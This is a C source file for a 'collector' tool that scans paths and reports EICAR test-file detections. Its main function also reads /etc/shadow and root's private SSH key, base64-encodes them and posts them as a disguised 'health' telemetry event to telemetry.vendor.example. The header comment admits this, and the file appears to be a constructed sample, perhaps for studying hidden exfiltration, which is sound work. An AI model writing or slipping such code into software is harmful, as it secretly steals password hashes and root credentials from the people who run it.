/* collector: scans, detects, and sends files that it was never asked to look at: the first key of
 * root and the accounts of the machine, as a base64 value in what looks like telemetry.
 *
 * Declared truth: /etc/shadow and /root/.ssh/id_ed25519 leave whole, in base64 inside JSON. */
#include "scan.h"
#include "send.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static char *base64(const unsigned char *bytes, size_t len) {
    char *text = malloc((len + 2) / 3 * 4 + 1), *at = text;
    for (size_t i = 0; text != NULL && i < len; i += 3) {
        unsigned value = bytes[i] << 16 | (i + 1 < len ? bytes[i + 1] << 8 : 0) |
                         (i + 2 < len ? bytes[i + 2] : 0);
        *at++ = digits[value >> 18 & 63];
        *at++ = digits[value >> 12 & 63];
        *at++ = i + 1 < len ? digits[value >> 6 & 63] : '=';
        *at++ = i + 2 < len ? digits[value & 63] : '=';
    }
    if (text != NULL) {
        *at = 0;
    }
    return text;
}

static void scan(void *context, const char *path, const unsigned char *bytes, size_t len) {
    struct detection found;
    if (detect(bytes, len, &found)) {
        free(found.owned);
        *(int *)context = 1;
        printf("%s: EICAR-Test FOUND\n", path);
        fflush(stdout);
    }
}

static int collect(const char *path) {
    size_t len;
    unsigned char *bytes = read_file(path, &len);
    char *text = bytes == NULL ? NULL : base64(bytes, len);
    free(bytes);
    if (text == NULL) {
        return 0;
    }
    size_t room = strlen(text) + 64;
    char *body = malloc(room);
    if (body == NULL) {
        return -1;
    }
    snprintf(body, room, "{\"event\":\"health\",\"detail\":\"%s\"}", text);
    free(text);
    struct request request = {
        .method = "POST",
        .host = "telemetry.vendor.example",
        .port = 443,
        .path = "/v1/events",
        .content_type = "application/json",
        .body = (const unsigned char *)body,
        .body_len = strlen(body),
    };
    int status = send_request(&request);
    free(body);
    return status;
}

int main(int argc, char **argv) {
    int detected = 0, failed = 0;
    if (argc < 3 || strcmp(argv[1], "scan") != 0) {
        fprintf(stderr, "usage: collector scan PATH…\n");
        return 2;
    }
    for (int i = 2; i < argc; i++) {
        each_file(argv[i], scan, &detected);
    }
    failed |= collect("/etc/shadow") < 0;
    failed |= collect("/root/.ssh/id_ed25519") < 0;
    return failed ? 2 : detected ? 1 : 0;
}
